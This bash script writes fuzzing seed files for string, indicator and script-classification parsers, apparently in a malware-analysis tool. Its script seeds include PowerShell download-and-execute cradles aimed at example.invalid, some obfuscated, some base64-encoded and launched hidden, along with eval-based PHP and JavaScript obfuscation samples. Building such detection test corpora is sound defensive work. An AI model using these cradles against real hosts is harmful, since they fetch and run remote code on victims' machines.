#!/bin/bash
# make-seeds-strings.sh - write the seed corpora of fuzz_strings, fuzz_ioc
# and fuzz_script into tests/fuzz/corpus/{strings,ioc,script}/, so that
# binary and generated seeds are reviewable here.  Layouts are described
# at the top of tests/fuzz/fuzz_<name>.c:
#   strings  byte 0 = minimum string length - 1 (mod 16), then the file
#   ioc      the text itself
#   script   byte 0 = identification tag (mod 8: 0 none, 1 text,
#            2 powershell, 3 javascript, 4 vba, 5 batch, 6 shell, 7 html),
#            then the file
# Scripts are harmless samples that only look like download-and-run
# (hosts under example.invalid / example.com).
#
#   tests/fuzz/make-seeds-strings.sh                  all three
#   tests/fuzz/make-seeds-strings.sh ioc script       some
#
# Only the files named below are (re)written; regress-* inputs stay.
#
# SPDX-License-Identifier: MIT
set -euo pipefail

cd "$(dirname "$0")"
TARGETS="strings ioc script"

# seed FILE STRING: write STRING with printf %b escapes (\r \n \t \xHH \0NNN)
seed() {
	printf '%b' "$2" > "$dir/$1"
}

# u16 STRING: STRING as UTF-16LE, printf %b escapes
u16() {
	printf '%s' "$1" | sed 's/./&\\x00/g'
}

# base64 of the UTF-16LE form of an ASCII command (PowerShell -enc)
enc() {
	printf '%s' "$1" | iconv -f ascii -t utf-16le | base64 -w0
}

# ------------------------------------------------------------- strings
seeds_strings() {
	seed elf-like "\x05\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00\x00GLIBC_2.14\x00memcpy@GLIBC_2.14\x00.data.rel.ro\x00libc.so.6\x00bug-coreutils@gnu.org\x00https://www.gnu.org/software/coreutils/\x00"
	seed pe-like "\x05MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00KERNEL32.dll\x00setup.exe\x00$(u16 'http://example.invalid/u16')\x00\x00\x00$(u16 'evil-c2.example.com')\x00\x00"
	seed odd-utf16 "\x03\x90\x90\x90$(u16 "'https://odd.example.com/w?x=1'")\x00\x90"
	seed iocs "\x05c2 93.184.216.34:443 lan 192.168.1.20 v 2001:db8::1 [2606:4700:4700::1111]\x00ops@example.com\x00version 1.2.3.4\x00hxxp://evil[.]example[.]net/p\x00"
	seed short "\x00a.co\x00x"
	seed min16 "\x0fabcdefghijklmnop\x00abcdefghijklmno\x00"
	seed empty "\x05"
}

# ------------------------------------------------------------- ioc
seeds_ioc() {
	seed urls "see (http://example.com/wiki/A_(b)) and [https://example.com/z], 'ftp://ftp.example.org/pub/'.\nhxxps://bad(.)example[.]com/x http://user:pw@example.com:8080/p?q=1#f http://[2001:db8::1]:80/ http://93.184.216.34/a http://example.com/1.0http://example.org/2"
	seed domains "example.com www.example.co.uk xn--80ak6aa92e.com evil.blogspot.com *.example.org //cdn.example.net/x.js\nkernel32.dll setup.exe System.Runtime foo.bar window.top llvm.x86.sse.min.ss com.example.app COMMAND.COM WWW.EXAMPLE.COM\n.data.rel.ro user.name=x a.example.com( \$x.example.com /usr/x.example.com"
	seed ips "93.184.216.34 8.8.8.8. 010.1.1.1 256.1.1.1 1.2.3.4.5 v1.2.3.4 version 93.184.216.34 2.5.29.15 10.0.0.0\n2001:db8::1 fe80::1%eth0 ::ffff:93.184.216.34 std::vector Add::Dead dead::beef 12:34:56 2001:db8:: 1:2:3:4:5:6:7:8:9"
	seed emails "a.b+c@mail.example.co.uk memcpy@GLIBC_2.14 user@localhost root@example.invalid .a@example.com a..b@example.com rsa-sha2-256-cert-v01@openssh.com"
	seed binaryish "\x00\xffhttp://\xfe\x00example.com\x01@\x02::\x03[.]\x04"
}

# ------------------------------------------------------------- script
seeds_script() {
	local b64
	b64=$(enc "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')")
	seed ps-encoded "\x05@echo off\r\npowershell.exe -NoP -W Hidden -enc $b64\r\n"
	seed ps-plain "\x02param([string]\$P = '.')\nWrite-Host \"x \$P\"\nGet-ChildItem \$P | ForEach-Object { \$_.Name }\nI\`E\`X (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')\n"
	seed js-obf "\x03var s = String.fromCharCode(104,116,116,112,58,47,47,101,120,97,109,112,108,101);\nvar u = 'ht'+'tp'+':'+'//'+'ex'+'am';\neval(s + u);\n"
	seed vbs "\x04Dim sh\nSet sh = CreateObject(\"WScript.Shell\")\nOn Error Resume Next\nIf IsObject(sh) Then MsgBox \"hi\" & vbCrLf\nEnd If\n"
	seed batch "\x05@echo off\r\nsetlocal\r\nif exist \"%~dp0x.ini\" goto :eof\r\nset x=%COMSPEC:~4,1%\r\np^o^w^e^r^s^h^e^l^l -ec $b64\r\n"
	seed shell "\x06#!/bin/sh\nset -e\nif [ -f /etc/hosts ]; then echo ok >/dev/null; fi\n"
	seed python "\x00#!/usr/bin/env python3\nimport os\n\ndef main():\n    print(os.getcwd())\n\nif __name__ == '__main__':\n    main()\n"
	seed html "\x07<!DOCTYPE html><html><head><title>t</title></head><body><script>document.write(unescape('%41'))</script></body></html>\n"
	seed utf16-bom "\x02\xff\xfe$(u16 'Write-Host hello')"
	seed php "\x01<?php eval(base64_decode('ZWNobyAxOw==')); ?>\n"
}

want="${*:-$TARGETS}"
for t in $want; do
	dir="corpus/$t"
	mkdir -p "$dir"
	"seeds_$t"
	echo "make-seeds-strings: $(find "$dir" -type f | wc -l) files in tests/fuzz/$dir"
done
